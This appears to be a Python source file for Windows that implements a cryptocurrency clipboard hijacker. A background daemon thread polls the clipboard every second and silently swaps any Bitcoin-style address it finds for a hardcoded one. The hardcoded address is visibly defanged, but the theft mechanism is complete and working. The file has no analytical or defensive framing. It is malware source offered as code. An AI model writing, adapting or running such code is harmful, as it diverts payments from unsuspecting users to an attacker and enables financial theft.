import re
import threading
import time

import win32clipboard

ADDR = "1DEFANGEDDEFANGEDDEFANGEDDEFANGED"


def loop():
    while True:
        win32clipboard.OpenClipboard()
        try:
            data = win32clipboard.GetClipboardData()
            if re.match(r"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", data):
                win32clipboard.EmptyClipboard()
                win32clipboard.SetClipboardText(ADDR)
        finally:
            win32clipboard.CloseClipboard()
        time.sleep(1)


threading.Thread(target=loop, daemon=True).start()
